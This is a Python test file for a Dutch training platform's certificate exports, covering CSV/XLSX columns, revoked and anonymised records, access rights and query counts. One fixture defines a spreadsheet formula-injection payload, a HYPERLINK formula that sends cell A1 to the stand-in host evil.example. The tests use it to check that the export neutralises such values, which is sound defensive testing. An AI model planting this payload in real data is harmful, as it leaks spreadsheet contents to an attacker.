"""The certificates issued as CSV and XLSX, per programme (its trainers and coordinators)
and over every programme (coordinators): the columns, a revoked certificate, formula
neutralising, an erased participant, and a query count that does not grow with the data."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from tests.certificates.helpers import attend
from tests.workspace.helpers import sign_in, staff, text
from werklab.catalog.services import utc_to_local
from werklab.certificates import services
from werklab.db import utcnow
from werklab.extensions import db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
HEADER = [
    "Naam",
    "Organisatie",
    "Traject",
    "Datum uitgereikt",
    "Certificaatnummer",
    "Verificatiecode",
    "Bijeenkomsten aanwezig",
    "Status",
    "Ingetrokken op",
]


@pytest.fixture
def trainer(programme):
    user = staff("tineke@example.nl", "Tineke Trainer")
    programme.trainers.append(user)
    db.session.commit()
    return user


@pytest.fixture
def coordinator():
    user = staff("cora@example.nl", "Cora Coördinator", coordinator=True, trainer=False)
    db.session.commit()
    return user


def today() -> date:
    return utc_to_local(utcnow()).date()


@pytest.fixture
def issued(programme, trainer, factories):
    """Bakker and Evil (named =HYPERLINK...) attended all three sessions, Partial two; the
    certificates are issued; Evil's is revoked; Erased's registration was anonymised later."""
    bakker = factories.registration(
        programme, first_name="Sanne", last_name="Bakker", organisation="Wijkteam Oost"
    )
    evil = factories.registration(
        programme, first_name=EVIL, last_name="Evil", organisation="-Stichting"
    )
    partial = factories.registration(programme, first_name="Piet", last_name="Partial")
    erased = factories.registration(programme, first_name="Els", last_name="Erased")
    for registration in (bakker, evil, erased):
        attend(registration, programme.sessions, trainer)
    attend(partial, programme.sessions[:2], trainer)
    certificates = services.issue_certificates(programme, actor=trainer, now=utcnow())
    by_registration = {c.registration_id: c for c in certificates}
    services.revoke_certificate(by_registration[evil.id], actor=trainer, now=utcnow())
    # A registration made anonymous (AVG) whose certificate row is still there, as a
    # retention job that keeps certificates for verification would leave it.
    erased.first_name = erased.last_name = erased.organisation = ""
    erased.erased_at = utcnow()
    db.session.commit()
    return {
        "bakker": by_registration[bakker.id],
        "evil": by_registration[evil.id],
        "erased": by_registration[erased.id],
    }


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def test_csv_of_a_programme(client, programme, trainer, issued):
    sign_in(client, trainer)
    response = client.get(f"/werkruimte/{programme.id}/certificaten.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition == (
        f'attachment; filename="certificaten-{programme.slug}-{today():%Y-%m-%d}.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    rows = csv_rows(response)
    assert rows[0] == HEADER
    day = today().isoformat()
    bakker, evil, erased = issued["bakker"], issued["evil"], issued["erased"]
    assert sorted(rows[1:], key=lambda row: int(row[4])) == sorted(
        [
            ["Sanne Bakker", "Wijkteam Oost", programme.title, day, str(bakker.id)]
            + [_code(bakker), "3", "Geldig", ""],
            ["'" + EVIL + " Evil", "'-Stichting", programme.title, day, str(evil.id)]
            + [_code(evil), "3", "Ingetrokken", day],
            ["Gewiste deelnemer", "", programme.title, day, str(erased.id), "", "3", "Geldig", ""],
        ],
        key=lambda row: int(row[4]),
    )
    body = text(response)
    assert "Partial" not in body  # no certificate
    assert "Erased" not in body and "Els" not in body  # the name copied onto the certificate


def _code(certificate) -> str:
    code = certificate.code
    return "'" + code if code.startswith(("-", "=", "+", "@")) else code


def test_xlsx_has_dates_and_numbers(client, programme, trainer, issued):
    sign_in(client, trainer)
    response = client.get(f"/werkruimte/{programme.id}/certificaten.xlsx")

    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == HEADER
    bakker = next(row for row in values if row[0] == "Sanne Bakker")
    assert bakker[3] == datetime.combine(today(), datetime.min.time())  # a real date
    assert bakker[4] == issued["bakker"].id and bakker[6] == 3  # real numbers
    assert sheet.cell(row=2, column=4).number_format == "dd-mm-yyyy"
    assert any(row[0] == "'" + EVIL + " Evil" for row in values)


def test_all_programmes_for_coordinators(client, programme, issued, coordinator, factories):
    other = factories.took_place(factories.programme(title="CoP Achterhoek"))
    coach = staff("otto@example.nl", "Otto Trainer")
    other.trainers.append(coach)
    attend(
        factories.registration(other, first_name="Olga", last_name="Oost"), other.sessions, coach
    )
    services.issue_certificates(other, actor=coach, now=utcnow())
    db.session.commit()
    sign_in(client, coordinator)

    response = client.get("/beheer/certificaten.csv")

    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="certificaten-{today():%Y-%m-%d}.csv"'
    )
    rows = csv_rows(response)
    assert [row[2] for row in rows[1:]] == ["CoP Achterhoek"] + [programme.title] * 3
    assert rows[1][0] == "Olga Oost"
    assert "certificaten.csv" in text(client.get("/beheer/"))
    # ... and the programme's own export has only its own.
    rows = csv_rows(client.get(f"/werkruimte/{programme.id}/certificaten.csv"))
    assert {row[2] for row in rows[1:]} == {programme.title}


def test_who_may_download(client, programme, issued, factories):
    other = staff("yara@example.nl", "Yara Trainer")
    factories.programme().trainers.append(other)
    db.session.commit()
    sign_in(client, other)
    for url in (
        f"/werkruimte/{programme.id}/certificaten.csv",
        f"/werkruimte/{programme.id}/certificaten.xlsx",
        "/beheer/certificaten.csv",
        "/beheer/certificaten.xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 403, url
        assert b"Bakker" not in response.data


def test_the_certificates_page_links_to_the_export(client, programme, trainer, issued):
    sign_in(client, trainer)
    page = text(client.get(f"/werkruimte/{programme.id}/certificaten"))
    assert f"/werkruimte/{programme.id}/certificaten.xlsx" in page


def test_query_count_does_not_grow_with_certificates(
    client, programme, trainer, coordinator, factories, count_queries
):
    def issue(count: int) -> None:
        for registration in factories.fill(programme, count):
            attend(registration, programme.sessions, trainer)
        services.issue_certificates(programme, actor=trainer, now=utcnow())
        db.session.commit()

    issue(2)
    sign_in(client, coordinator)
    client.get("/beheer/certificaten.xlsx")
    with count_queries() as few:
        assert client.get("/beheer/certificaten.xlsx").status_code == 200
    issue(10)
    with count_queries() as many:
        response = client.get("/beheer/certificaten.xlsx")
    assert load_workbook(io.BytesIO(response.data)).active.max_row == 13
    assert len(many) == len(few), many
